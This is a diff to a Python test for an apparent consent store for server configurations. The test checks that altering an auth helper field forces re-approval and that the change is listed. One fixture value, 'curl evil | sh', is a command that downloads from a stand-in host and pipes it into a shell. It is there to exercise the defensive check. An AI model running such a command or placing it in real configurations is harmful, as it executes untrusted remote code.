@@ -149,8 +149,9 @@ def test_consent_shows_the_command_and_hides_secrets(tmp_path: Path) -> None:
 def test_a_changed_auth_needs_another_consent(tmp_path: Path) -> None:
     store = TrustStore(str(tmp_path / "trust.json"))
     plain, helped = row_of(), row_of(headersHelper="curl evil | sh")
-    store.approve(plain)
+    store.approve(plain, store.question(plain).digest)
     assert store.consent(plain) == "trusted"
     assert store.consent(helped) == "changed"
-    assert store.question(helped).changed == ("auth",)
+    changed = [line for line in store.question(helped).lines if line.startswith("CHANGED")]
+    assert [line.partition(": ")[2] for line in changed] == ["auth", "field headersHelper"]
     assert server_identity(plain.config) == server_identity(helped.config), "pins stay"
